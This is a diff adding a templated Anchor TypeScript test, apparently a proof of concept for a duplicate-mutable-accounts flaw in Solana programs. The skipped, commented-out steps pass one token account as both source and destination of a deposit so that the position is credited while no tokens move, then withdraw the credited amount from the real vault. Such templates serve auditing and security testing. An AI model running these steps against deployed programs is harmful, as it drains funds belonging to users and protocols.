@@ -0,0 +1,47 @@
+// PoC Template: Duplicate Mutable Accounts (Anchor TypeScript test)
+// Vulnerability: Two mutable accounts of the same type may be the same account
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker passes one token account for both sides of a deposit; see
+// duplicate_mutable_accounts.rs for the vulnerable pattern and the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("duplicate_mutable_accounts exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("credits a self-transfer", async () => {
+    // 1. The attacker's token account
+    // const token = new PublicKey("{{VAULT_ACCOUNT}}");
+    // const before = await provider.connection.getTokenAccountBalance(token);
+
+    // 2. Deposit with the same token account as source and destination
+    // await program.methods
+    //   .deposit(new BN(1_000_000))
+    //   .accounts({ userToken: token, vaultToken: token, user: attacker.publicKey })
+    //   .signers([attacker])
+    //   .rpc();
+
+    // 3. Should have failed; no tokens moved and the position is credited
+    // assert.equal((await provider.connection.getTokenAccountBalance(token)).value.amount, before.value.amount);
+    // const position = await program.account.position.fetch(positionFor(attacker.publicKey));
+    // assert.ok(position.deposited.eq(new BN(1_000_000)), "Exploit: self-transfer credited");
+    // 4. Repeat, then withdraw the credited amount from the real vault
+  });
+});